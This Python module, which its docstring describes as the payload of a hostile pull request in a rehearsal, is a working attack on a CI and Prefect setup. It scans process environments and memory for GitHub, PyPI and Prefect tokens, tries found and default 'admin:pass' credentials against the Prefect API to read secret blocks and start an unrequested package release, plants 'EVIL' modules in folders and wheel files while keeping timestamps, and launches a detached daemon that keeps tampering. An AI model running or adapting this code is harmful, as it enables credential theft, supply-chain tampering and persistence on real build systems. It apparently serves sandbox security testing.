"""What a hostile pull request runs when it is built and imported: it takes and changes what it can, and prints that.

This text is pushed into a repository of a rehearsal, with the test's own addresses in `SETTINGS`; it knows more of the
machine than a stranger would. It uses the standard library alone. Where a sandbox fails, it must not harm the machine:
it looks at the test's own processes, gives orders to the test's own server, and changes files in the test's folders;
elsewhere it makes a file and removes it again.
"""

import base64
import contextlib
import glob
import json
import os
import re
import socket
import subprocess
import sys
import tempfile
import time
import urllib.error
import urllib.request
import zipfile
from typing import Any

SETTINGS: "dict[str, Any]" = {}
SECRETS = re.compile(rb"github_pat_[0-9a-f]{60}|pypi-[\w-]{64}|canary-[0-9a-f]{32}|PREFECT_API_AUTH_STRING=[\w:.~+/-]+")
MOST = 128 << 20
LISTED = 60
SECONDS = 120


def attempt(work: Any, *arguments: Any) -> Any:
    """What it gave, or why not."""
    try:
        return work(*arguments)
    except Exception as error:
        return f"no: {type(error).__name__}: {error}"[:200]


def processes() -> "list[str]":
    """All in a sandbox; outside of one those of the stack, and this one."""
    parents = {name: attempt(parent, name) for name in os.listdir("/proc") if name.isdigit()}
    stack = str(SETTINGS["stack"])
    return [pid for pid in parents if stack not in parents or stack in ancestors(pid, parents)] or [str(os.getpid())]


def parent(pid: str) -> str:
    with open(f"/proc/{pid}/stat") as file:
        return file.read().rpartition(")")[2].split()[1]


def ancestors(pid: str, parents: "dict[str, str]") -> "set[str]":
    found = {pid}
    while (pid := parents.get(pid, "")) and pid not in found:
        found.add(pid)
    return found


def environment(pid: str) -> str:
    with open(f"/proc/{pid}/environ", "rb") as file:
        return file.read().replace(b"\0", b"\n").decode(errors="replace")


def memory(pid: str) -> "list[str]":
    """The secrets in the memory of a process."""
    found: set[str] = set()
    left = MOST
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as file:
        for line in maps:
            begin, end = (int(text, 16) for text in line.split()[0].split("-"))
            if " rw" in line and end - begin < left:
                with contextlib.suppress(OSError, ValueError, OverflowError):
                    file.seek(begin)
                    found.update(each.decode(errors="replace") for each in SECRETS.findall(file.read(end - begin)))
                    left -= end - begin
    return sorted(found)


def opened(pid: str) -> "list[str]":
    return [os.readlink(path) for path in glob.glob(f"/proc/{pid}/fd/*")][:LISTED]


def connected(address: Any) -> bool:
    with socket.create_connection(address, 0.5):
        return True


def unix_sockets() -> "list[str]":
    """Those of this machine, also without a file."""
    with open("/proc/net/unix") as file:
        return [line.split()[-1] for line in file][1:LISTED]


def asked(url: str, headers: "dict[str, str]", body: Any = None) -> Any:
    data = None if body is None else json.dumps(body).encode()
    request = urllib.request.Request(url, data, {"content-type": "application/json", **headers})
    with urllib.request.build_opener(urllib.request.ProxyHandler({})).open(request, timeout=3) as answer:
        text = answer.read().decode(errors="replace")
        return json.loads(text) if text.startswith(("{", "[")) else text[:200]


def order(api: str, headers: "dict[str, str]") -> "list[Any]":
    """Read what Prefect keeps, and start a release that nobody has asked for."""
    client = {**headers, "Prefect-Csrf-Client": "hostile"}
    token = attempt(asked, f"{api}/csrf-token?client=hostile", client)
    if isinstance(token, dict):
        client["Prefect-Csrf-Token"] = token["token"]
    blocks = attempt(asked, f"{api}/block_documents/filter", client, {"include_secrets": True})
    deployment = attempt(asked, f"{api}/deployments/name/release-package/release-package", client)
    started = deployment
    if isinstance(deployment, dict):
        wanted = {"parameters": {"request": {"package": "market-data-store", "bump": "minor"}}}
        started = attempt(asked, f"{api}/deployments/{deployment['id']}/create_flow_run", client, wanted)
    return [str(blocks)[:400], str(started)[:200]]


def orders(loot: "dict[str, Any]") -> "dict[str, Any]":
    """Without a password, with a usual one, and with each that was found."""
    passwords = {*re.findall(r"PREFECT_API_AUTH_STRING=([\w:.~+/-]+)", json.dumps(loot)), "admin:pass"}
    found = {"": attempt(order, SETTINGS["prefect"], {})}
    for each in sorted(passwords):
        header = {"Authorization": f"Basic {base64.b64encode(each.encode()).decode()}"}
        found[each] = attempt(order, SETTINGS["prefect"], header)
    return found


def mounts() -> "list[str]":
    """Where something may be written, if the rights of files allow it."""
    with open("/proc/self/mounts") as file:
        found = [line.split() for line in file]
    return [each[1] for each in found if "rw" in each[3].split(",") and not each[1].startswith(("/proc", "/sys"))]


def writable() -> "list[str]":
    """The folders in which a file can be made, the topmost of each tree."""
    found: list[str] = []
    for mount in mounts():
        for folder, names, _ in os.walk(mount):
            names[:] = [name for name in names if os.path.join(folder, name) not in {"/proc", "/sys", "/usr"}]
            with contextlib.suppress(OSError):
                descriptor, path = tempfile.mkstemp(dir=folder)
                os.close(descriptor)
                os.unlink(path)
                found.append(folder)
                names.clear()
    return sorted(set(found))[:LISTED]


def targets() -> "list[str]":
    """All files of Interlock's that are to be seen, but for servers'; each folder gets one more."""
    found = []
    for folder in SETTINGS["folders"]:
        for top, names, files in os.walk(folder):
            names[:] = [name for name in names if name not in {"rehearsals", "prefect"}]
            found += [os.path.join(top, name) for name in files]
            with contextlib.suppress(OSError), open(os.path.join(top, SETTINGS["mark"] + ".py"), "x") as file:
                file.write("EVIL = True\n")
    return found


def spoil(path: str) -> bool:
    """Change a file so that its size and its time stay."""
    before = os.stat(path)
    if path.endswith(".whl"):
        with zipfile.ZipFile(path, "a") as wheel:
            if SETTINGS["mark"] + ".py" not in wheel.namelist():
                wheel.writestr(SETTINGS["mark"] + ".py", "EVIL = True\n")
        return True
    with open(path, "r+b") as file:
        if not path.endswith((".py", ".pyc", ".json", ".gz", ".toml")):
            return True  # that it can be opened is enough
        content = file.read()
        file.seek(max(len(content) - 1, 0))
        file.write(b" ")
    os.utime(path, ns=(before.st_atime_ns, before.st_mtime_ns))
    return True


def spoilt() -> "dict[str, list[str]]":
    seen = targets()
    return {"seen": seen[:LISTED], "spoilt": [path for path in seen if attempt(spoil, path) is True][:LISTED]}


def checkout() -> "list[str]":
    """What of Interlock's own code and environment can be changed."""
    seen = [path for folder in SETTINGS["checkout"] for path in (folder, *glob.glob(f"{folder}/*"))]
    return [path for path in seen if os.access(path, os.W_OK)][:LISTED]


def daemon() -> int:
    """Start a process that outlives its cell, and goes on."""
    code = f"import time, runpy; runpy.run_path({__file__!r}, run_name='daemon')"
    null = subprocess.DEVNULL
    command = [sys.executable, "-c", code, SETTINGS["mark"]]
    return subprocess.Popen(command, stdin=null, stdout=null, stderr=null, start_new_session=True).pid


def go_on() -> None:
    deadline = time.monotonic() + SECONDS
    while time.monotonic() < deadline:
        spoilt()
        time.sleep(0.5)


def say(line: str) -> None:
    """Write it to everything that somebody reads, also where pytest has put its own file in the place of the output."""
    for path in glob.glob("/proc/self/fd/*"):
        with contextlib.suppress(OSError):
            if "(deleted)" in os.readlink(path) or path.endswith("/1"):
                os.write(int(path.rpartition("/")[2]), f"\n{line}\n".encode())


def attack(where: str) -> str:
    """Do all of it; what was found, as a line."""
    loot: dict[str, Any] = {"where": where, "mark": SETTINGS["mark"], "pid": os.getpid(), "uid": os.getuid()}
    loot["environments"] = {pid: attempt(environment, pid) for pid in processes()}
    loot["memories"] = {pid: attempt(memory, pid) for pid in processes()}
    loot["descriptors"] = {pid: attempt(opened, pid) for pid in processes()}
    loot["connected"] = [each for each in SETTINGS["addresses"] if attempt(connected, tuple(each)) is True]
    loot["unix"] = attempt(unix_sockets)
    loot["orders"] = orders(loot)
    loot["writable"] = attempt(writable)
    loot["files"] = attempt(spoilt)
    loot["checkout"] = attempt(checkout)
    loot["daemon"] = attempt(daemon)
    line = "LOOT " + json.dumps(loot)
    say(line)
    return line


if __name__ == "daemon":
    go_on()
